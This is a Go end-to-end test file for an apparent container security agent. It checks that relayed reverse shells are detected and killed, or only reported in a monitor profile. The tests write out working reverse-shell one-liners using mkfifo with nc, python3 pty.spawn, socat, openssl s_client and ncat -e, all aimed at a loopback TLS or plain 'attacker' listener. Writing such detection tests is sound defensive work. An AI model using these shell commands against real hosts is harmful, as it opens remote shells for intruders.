package e2e

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// Relayed shells: the shell's stdio is a pipe, a fifo or a pty; its parent
// (ncat -e, python3 pty.spawn, socat) or a sibling in the same pipeline
// (mkfifo + nc, openssl s_client) holds the INET socket and relays. The
// relay point recognises the pair at whichever comes second: the shell's
// exec (killed before its first instruction) or the peer's connect
// (refused; the agent kills the shell). Where the order is a race, the
// connection may or may not arrive (connects: false).

func TestTechniqueRelayedMkfifoNcat(t *testing.T) {
	testTechnique(t, technique{name: "tech-fifo-nc", shell: hostShell, relay: true, args: func(port int) []string {
		return []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f", port)}
	}})
}

func TestTechniqueRelayedPython3PtySpawn(t *testing.T) {
	testTechnique(t, technique{name: "tech-py-pty", shell: hostShell, relay: true, connects: true, args: func(port int) []string {
		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,os,pty
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("127.0.0.1",%d))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
pty.spawn("/bin/sh")`, port)}
	}})
}

func TestTechniqueRelayedSocatPty(t *testing.T) {
	testTechnique(t, technique{name: "tech-socat", relay: true, args: func(port int) []string {
		return []string{"/usr/bin/socat", "exec:sh -i,pty,stderr,setsid", "tcp:127.0.0.1:" + strconv.Itoa(port)}
	}})
}

func TestTechniqueRelayedOpensslFifo(t *testing.T) {
	testTechnique(t, technique{name: "tech-openssl", shell: hostShell, relay: true, listen: tlsShellListener, args: func(port int) []string {
		return []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/s; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -no_ign_eof -connect 127.0.0.1:%d > /tmp/s; rm -f /tmp/s", port)}
	}})
}

func tlsShellListener(t *testing.T) shellListener {
	return listenTLS(t, reverseShellGreeting)
}

// tlsListener is the attacker's end of an encrypted reverse shell: a TLS
// server on the loopback with a self-signed certificate made here.
type tlsListener struct {
	ln      net.Listener
	mu      sync.Mutex
	data    strings.Builder
	conns   int
	changed chan struct{}
	wg      sync.WaitGroup
}

func listenTLS(t *testing.T, greeting string) *tlsListener {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cfg := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	ln, err := tls.Listen("tcp", "127.0.0.1:0", cfg)
	if err != nil {
		t.Fatal(err)
	}
	l := &tlsListener{ln: ln, changed: make(chan struct{})}
	l.wg.Add(1)
	go func() {
		defer l.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.note(nil, true)
			l.wg.Add(1)
			go func() {
				defer l.wg.Done()
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(containerTimeout))
				_, _ = c.Write([]byte(greeting))
				buf := make([]byte, 4096)
				for {
					n, err := c.Read(buf)
					l.note(buf[:n], false)
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	t.Cleanup(func() { ln.Close(); l.wg.Wait() })
	return l
}

func (l *tlsListener) note(b []byte, conn bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.data.Write(b)
	if conn {
		l.conns++
	}
	close(l.changed)
	l.changed = make(chan struct{})
}

func (l *tlsListener) Port() int { return l.ln.Addr().(*net.TCPAddr).Port }

func (l *tlsListener) Received() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.data.String()
}

func (l *tlsListener) wait(timeout time.Duration, cond func() bool) bool {
	deadline := time.After(timeout)
	for {
		l.mu.Lock()
		ch, ok := l.changed, cond()
		l.mu.Unlock()
		if ok {
			return true
		}
		select {
		case <-deadline:
			l.mu.Lock()
			defer l.mu.Unlock()
			return cond()
		case <-ch:
		}
	}
}

func (l *tlsListener) WaitReceived(substr string, timeout time.Duration) bool {
	return l.wait(timeout, func() bool { return strings.Contains(l.data.String(), substr) })
}

func (l *tlsListener) WaitConn(timeout time.Duration) bool {
	return l.wait(timeout, func() bool { return l.conns > 0 })
}

// ncat -e: the shell's stdin and stdout are pipes; ncat relays them to the
// socket.
func TestTechniqueRelayedNcatExec(t *testing.T) {
	testTechnique(t, technique{name: "tech-ncat-e", shell: hostShell, relay: true, connects: true, args: func(port int) []string {
		return []string{"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
	}})
}

// A relayed shell in a monitor profile: reported at the relay point, not
// stopped.
func TestTechniqueMonitorRelayedMkfifo(t *testing.T) {
	needHostRoot(t)
	ln := listen(t, "127.0.0.1:0", reverseShellGreeting)
	args := []string{"/bin/sh", "-c", fmt.Sprintf("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f", ln.Port())}
	res := runContainer(t, ctrOpts{Name: "tech-monitor-relay", HostRoot: true, Args: args,
		Annotations: map[string]string{"ocigate.io/profile": "reverse-shell-monitor"}})
	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
		t.Errorf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
	}
	waitEvent(t, res.ID, map[string]any{
		"process_kprobe.function_name":        "security_bprm_check",
		"process_kprobe.action":               "KPROBE_ACTION_SIGKILL",
		"process_kprobe.args.0.file_arg.path": hostShell,
		"ocigate.container_id":                res.ID,
		"ocigate.point":                       "relay",
		"ocigate.mode":                        "monitor",
		"ocigate.verdict":                     "would-deny",
		"ocigate.enforced":                    false,
	})
	noEvent(t, res.ID, anyEnforced(res.ID))
}
